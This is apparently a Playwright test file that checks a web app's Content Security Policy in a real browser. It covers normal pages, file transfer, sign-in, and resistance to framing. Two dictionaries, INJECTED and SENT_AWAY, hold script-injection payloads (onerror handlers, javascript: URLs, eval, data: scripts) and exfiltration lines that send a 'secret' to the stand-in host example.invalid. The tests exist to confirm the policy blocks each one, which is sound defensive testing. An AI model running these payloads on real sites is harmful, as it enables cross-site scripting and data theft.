"""The content policy in a real browser: no page needs more than it opens, and no script written into one runs."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.browser.serving import XLSX, Visit, drawn
from tests.raw_requests import serving
from tools.screenshots import PAGES

pytestmark = pytest.mark.browser
LISTEN = """
window.refused = [];
document.addEventListener("securitypolicyviolation", event =>
  (parent.refused ?? window.refused).push([event.effectiveDirective, event.blockedURI, event.sourceFile].join(" ")));
"""
HOVERED = "[data-testid=stVegaLiteChart] :is(.mark-rect, .mark-symbol, .mark-arc, .mark-text) > :first-child"
RUN = """() => {
  const added = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
  setTimeout(() => { %s });
}"""
"""As the page itself runs it: what a debugger evaluates, the policy lets pass."""
INJECTED = {
    "script": "added('script', {textContent: 'window.ran = 1'})",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "address": "added('a', {href: 'javascript:void(window.ran = 1)'}).click()",
    "string": "try { eval('window.ran = 1') } catch (refused) {}",
    "elsewhere": "added('script', {src: 'https://example.invalid/x.js'})",
    "data": "added('script', {src: 'data:text/javascript,window.ran=1'})",
    "frame": "added('iframe', {srcdoc: '<script>parent.ran = 1</script>'})",
}
SENT_AWAY = {
    "image": "new Image().src = 'https://example.invalid/?secret'",
    "fetch": "fetch('https://example.invalid/?secret').catch(() => 0)",
    "socket": "try { new WebSocket('wss://example.invalid/') } catch (refused) {}",
    "beacon": "navigator.sendBeacon('https://example.invalid/', 'secret')",
    "form": "added('form', {action: 'https://example.invalid/'}).submit()",
    "base": "added('base', {href: 'https://example.invalid/'})",
}
OPENS = """address => new Promise(done => {
  Object.assign(new WebSocket(address), {onopen: () => done(true), onerror: () => done(false)});
})"""


def refused(page: Page) -> list[str]:
    return [str(one) for one in page.evaluate("window.refused")]


@pytest.fixture
def watched(visit: Visit) -> Visit:
    """A visit whose pages write down what the policy refuses."""
    visit.context().add_init_script(LISTEN)
    return visit


def _has_extent(mark: Locator) -> bool:
    """Whether *mark* is drawn somewhere; a hover layer waits as a point of no size."""
    box = mark.bounding_box()
    return box is not None and box["width"] > 1


@pytest.mark.parametrize("name", PAGES)
def test_no_page_needs_more_than_the_policy_opens(watched: Visit, name: str) -> None:
    page = watched.open(f"/{name if name != 'portfolio' else ''}?lang=fr")
    for mark in [mark for mark in page.locator(HOVERED).all() if _has_extent(mark)][:5]:
        mark.hover(force=True)
    for toggle in page.locator("[data-testid=stExpander] summary, [data-testid=stPopoverButton]").all()[:3]:
        toggle.click()
        page.keyboard.press("Escape")
    drawn(page)
    page.wait_for_load_state("networkidle")
    assert refused(page) == []


def test_downloading_and_uploading_need_no_more(watched: Visit) -> None:
    page = watched.open("/upload")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download the workbook").click()
    content = Path(download.value.path()).read_bytes()
    page.locator("input[type=file]").set_input_files({"name": "week.xlsx", "mimeType": XLSX, "buffer": content})
    expect(page.get_by_text("week.xlsx").first).to_be_visible()
    drawn(page)
    assert refused(page) == []


def test_signing_in_and_staying_so_needs_no_more(chromium: Browser, address: str) -> None:
    context = chromium.new_context(locale="en-GB")
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.goto(address)
    page.get_by_role("button", name="Claire Peeters").click()
    expect(page.get_by_role("heading", name="Portfolio", level=1)).to_be_visible()
    drawn(page)
    expect(page.get_by_test_id("stVegaLiteChart").first).to_be_visible()
    assert refused(page) == []
    page.reload()
    expect(page.get_by_role("heading", name="Portfolio", level=1)).to_be_visible()
    assert refused(page) == []
    context.close()


@pytest.fixture(scope="module")
def shut(chromium: Browser, address: str) -> Iterator[Page]:
    """A page to attack; what it complains about is no trouble here."""
    context = chromium.new_context()
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.goto(address)
    drawn(page)
    yield page
    context.close()


@pytest.mark.parametrize("way", INJECTED)
def test_a_script_that_is_written_into_a_page_does_not_run(shut: Page, way: str) -> None:
    before = len(refused(shut))
    shut.evaluate("window.ran = null")
    shut.evaluate(RUN % INJECTED[way])
    shut.wait_for_function("before => window.refused.length > before", arg=before)
    assert shut.evaluate("window.ran") is None


@pytest.mark.parametrize("way", SENT_AWAY)
def test_nothing_is_sent_to_another_address(shut: Page, way: str) -> None:
    before = len(refused(shut))
    shut.evaluate(RUN % SENT_AWAY[way])
    shut.wait_for_function("before => window.refused.length > before", arg=before)


def test_no_other_page_frames_it_and_none_of_another_address_talks_to_it(chromium: Browser, address: str) -> None:
    page = chromium.new_page()
    page.route(
        "http://elsewhere.test/",
        lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{address}'>"),
    )
    page.goto("http://elsewhere.test/")
    expect(page.frame_locator("iframe").locator("#root")).to_have_count(0)
    stream = address.replace("http:", "ws:") + "/_stcore/stream"
    assert page.evaluate(OPENS, stream) is False
    page.close()


def test_the_component_of_sign_in_works_inside_its_own_policy(chromium: Browser) -> None:
    with serving("-m", "tests.upload_server", "PORT", "cookie_script.py") as server:
        context = chromium.new_context()
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.goto(f"http://{server.host}")
        expect(page.get_by_text("the cookie says yes")).to_be_visible()
        assert refused(page) == []
        context.close()
